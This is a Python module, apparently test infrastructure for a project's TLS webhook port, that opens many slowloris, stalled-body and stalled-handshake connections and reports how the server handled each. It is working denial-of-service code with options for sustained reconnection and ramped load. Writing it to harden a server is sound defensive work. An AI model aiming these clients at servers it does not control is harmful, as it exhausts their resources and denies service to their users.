"""Hostile clients of a TLS port: slowloris headers, stalled bodies, stalled TLS handshakes.

Test and benchmark infrastructure (never imported by the product): the attacks that took the
webhook port past its memory limit and held hundreds of connections open, as real sockets. Run
in a child process (``python -m kubescale.sim.hostile_clients SPEC_JSON``) so that the process
under test measures only its own memory; it prints one JSON document with what happened to
every connection.

* ``slowloris``: TLS handshake, the request line and a first header, then one more header byte
  every ``trickle`` seconds, never the blank line that ends the headers.
* ``stalled_body``: TLS handshake, headers announcing ``declared`` bytes, then ``send`` bytes of
  body (as fast as the server takes them, giving up on a write the server leaves unread for
  ``hold`` seconds) and nothing more.
* ``stalled_handshake``: a TCP connection that never sends a ClientHello.

Each connection waits for the server to close it (or answer) for at most ``hold`` seconds (with
``reconnect``, the attacker then connects again until ``hold`` is over; with ``reconnects``, that
many more times) and reports when that
happened (seconds since it connected; ``null`` when it was still open), the
status line of any answer, and the body bytes it got to send.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import ssl
import sys
import time
from dataclasses import asdict, dataclass, field
from typing import Any

__all__ = ["AttackSpec", "Outcome", "run_attack"]


@dataclass(frozen=True, kw_only=True)
class AttackSpec:
    host: str
    port: int
    server_name: str
    ca_file: str
    path: str = "/"
    slowloris: int = 0
    stalled_bodies: int = 0
    stalled_handshakes: int = 0
    declared: int = 5 * 1024 * 1024 - 100 * 1024
    """Content-Length of a stalled body (4.9 MiB: just under the 5 MiB limit)."""
    send: int = 5 * 1024 * 1024 - 100 * 1024 - 1
    trickle: float = 1.0
    hold: float = 10.0
    ramp: float = 0.0
    """Seconds over which connections are opened (0: all at once)."""
    source: str | None = None
    """Local address to connect from (e.g. ``127.0.0.2``: another client than the test's)."""
    reconnect: bool = False
    """Slowloris and stalled handshakes connect again when closed, until ``hold`` is over (a
    sustained attack); each connection is reported."""
    reconnects: int = 0
    """Slowloris and stalled handshakes connect again this many times after the first, each
    waiting up to ``hold`` (a count rather than a time: what a test can rely on whatever the
    machine's load); each connection is reported."""


@dataclass
class Outcome:
    kind: str
    connected: bool = False
    closed_after: float | None = None
    """Seconds from connecting until the server closed the connection (or answered)."""
    open_for: float = 0.0
    """Seconds the connection was open: until the server closed it, or until ``hold`` ended."""
    status: str = ""
    body_sent: int = 0
    error: str = ""
    extra: dict[str, Any] = field(default_factory=dict)


def _client_context(ca_file: str) -> ssl.SSLContext:
    context = ssl.create_default_context(cafile=ca_file)
    context.verify_flags &= ~ssl.VERIFY_X509_STRICT
    return context


async def _connect(
    spec: AttackSpec, context: ssl.SSLContext | None
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    local = (spec.source, 0) if spec.source else None
    if context is None:
        return await asyncio.open_connection(spec.host, spec.port, local_addr=local)
    return await asyncio.open_connection(
        spec.host, spec.port, ssl=context, server_hostname=spec.server_name, local_addr=local
    )


async def _until_closed(reader: asyncio.StreamReader, outcome: Outcome, started: float) -> None:
    """Read until EOF or an error; note the status line and when the connection ended."""
    received = b""
    try:
        while True:
            chunk = await reader.read(4096)
            if not chunk:
                break
            received += chunk
    except (OSError, ssl.SSLError, asyncio.IncompleteReadError):
        pass
    outcome.closed_after = round(time.monotonic() - started, 3)
    if received:
        outcome.status = received.split(b"\r\n", 1)[0].decode("latin-1")


async def _slowloris(spec: AttackSpec, context: ssl.SSLContext) -> Outcome:
    outcome = Outcome(kind="slowloris")
    reader, writer = await _connect(spec, context)
    outcome.connected = True
    started = time.monotonic()
    writer.write(f"POST {spec.path} HTTP/1.1\r\nHost: {spec.server_name}\r\nX-a: ".encode())
    closed = asyncio.create_task(_until_closed(reader, outcome, started))
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(spec.hold):
            while not closed.done():
                with contextlib.suppress(OSError, RuntimeError):
                    writer.write(b"a")
                    await writer.drain()
                await asyncio.wait([closed], timeout=spec.trickle)
    closed.cancel()
    writer.transport.abort()
    outcome.open_for = round(time.monotonic() - started, 3)
    return outcome


async def _stalled_body(spec: AttackSpec, context: ssl.SSLContext, payload: bytes) -> Outcome:
    outcome = Outcome(kind="stalled_body")
    reader, writer = await _connect(spec, context)
    outcome.connected = True
    started = time.monotonic()
    head = (
        f"POST {spec.path} HTTP/1.1\r\nHost: {spec.server_name}\r\n"
        f"Content-Type: application/json\r\nContent-Length: {spec.declared}\r\n\r\n"
    )
    writer.write(head.encode())
    closed = asyncio.create_task(_until_closed(reader, outcome, started))
    view = memoryview(payload)[: spec.send]
    chunk = 64 * 1024
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(spec.hold):
            try:
                for offset in range(0, len(view), chunk):
                    if closed.done():
                        break
                    writer.write(view[offset : offset + chunk])
                    await writer.drain()
                    outcome.body_sent = min(len(view), offset + chunk)
            except (OSError, RuntimeError, ssl.SSLError):
                pass
            await closed
    closed.cancel()
    writer.transport.abort()
    outcome.open_for = round(time.monotonic() - started, 3)
    return outcome


async def _stalled_handshake(spec: AttackSpec) -> Outcome:
    outcome = Outcome(kind="stalled_handshake")
    reader, writer = await _connect(spec, None)
    outcome.connected = True
    started = time.monotonic()
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(spec.hold):
            await _until_closed(reader, outcome, started)
    writer.transport.abort()
    outcome.open_for = round(time.monotonic() - started, 3)
    return outcome


async def _guarded(kind: str, attack: Any) -> Outcome:
    try:
        result: Outcome = await attack
    except (OSError, ssl.SSLError) as exc:
        return Outcome(kind=kind, error=f"{type(exc).__name__}: {exc}")
    return result


async def _repeated(spec: AttackSpec, kind: str, make: Any) -> list[Outcome]:
    """One attacker: one connection, or (``reconnect``) one after another until ``hold``."""
    deadline = time.monotonic() + spec.hold
    outcomes = [await _guarded(kind, make(spec.hold))]
    if kind != "stalled_body":
        for _ in range(spec.reconnects):
            outcomes.append(await _guarded(kind, make(spec.hold)))
    while (
        spec.reconnect and kind != "stalled_body" and (left := deadline - time.monotonic()) > 0.05
    ):
        outcomes.append(await _guarded(kind, make(left)))
    return outcomes


async def run_attack(spec: AttackSpec) -> list[Outcome]:
    """Open every hostile connection (spread over ``ramp`` seconds) and report each."""
    context = _client_context(spec.ca_file)
    payload = b"x" * spec.send

    def held(seconds: float) -> AttackSpec:
        return AttackSpec(**{**asdict(spec), "hold": seconds})

    attacks: list[tuple[str, Any]] = []
    attacks += [("slowloris", lambda hold: _slowloris(held(hold), context))] * spec.slowloris
    attacks += [
        ("stalled_body", lambda hold: _stalled_body(held(hold), context, payload))
    ] * spec.stalled_bodies
    attacks += [("stalled_handshake", lambda hold: _stalled_handshake(held(hold)))] * (
        spec.stalled_handshakes
    )
    tasks = []
    for i, (kind, make) in enumerate(attacks):
        tasks.append(asyncio.create_task(_repeated(spec, kind, make)))
        if spec.ramp and i + 1 < len(attacks):
            await asyncio.sleep(spec.ramp / len(attacks))
    return [outcome for outcomes in await asyncio.gather(*tasks) for outcome in outcomes]


def main(argv: list[str]) -> int:
    spec = AttackSpec(**json.loads(argv[1]))
    outcomes = asyncio.run(run_attack(spec))
    json.dump([asdict(o) for o in outcomes], sys.stdout)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
